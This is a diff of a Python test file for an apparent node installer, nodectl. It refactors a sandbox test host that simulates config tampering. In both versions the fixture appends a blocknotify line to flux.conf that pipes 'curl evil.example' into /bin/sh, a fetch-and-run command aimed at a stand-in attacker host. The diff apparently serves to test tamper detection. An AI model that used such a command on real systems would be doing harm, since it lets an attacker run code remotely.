@@ -7,12 +7,15 @@ import io
 import tarfile
 from collections.abc import AsyncIterator
 from pathlib import Path
+from typing import Any
 
 import aiohttp
 import pytest
 import pytest_asyncio
 
 from nodectl.install.archive import MARKER, STAGING
+from nodectl.install.host import CommandResult
+from nodectl.install.operations import Operation
 from nodectl.install.params import InstallParams
 from nodectl.install.sandbox import SandboxHost
 
@@ -109,11 +112,13 @@ async def test_chain_bigger_than_free_space_stops_before_extracting(harness: Har
 class ConfTamperingHost(SandboxHost):
     """Another program on the machine adds a notify command whenever flux.conf is written."""
 
-    async def write_file(self, path: str, content: bytes, *, mode: int = 0o644,
-                         owner: str | None = None) -> None:
-        if path.endswith("/.flux/flux.conf"):
-            content += b"blocknotify=/bin/sh -c 'curl evil.example | sh'\n"
-        await super().write_file(path, content, mode=mode, owner=owner)
+    async def perform(self, op: Operation, **kwargs: Any) -> CommandResult:
+        result = await super().perform(op, **kwargs)
+        if op.name == "write_config" and op.args.get("kind") == "flux_conf":
+            conf = self.path(f"{FLUX}/flux.conf")
+            conf.write_bytes(conf.read_bytes()
+                             + b"blocknotify=/bin/sh -c 'curl evil.example | sh'\n")
+        return result
 
 
 @pytest.mark.asyncio
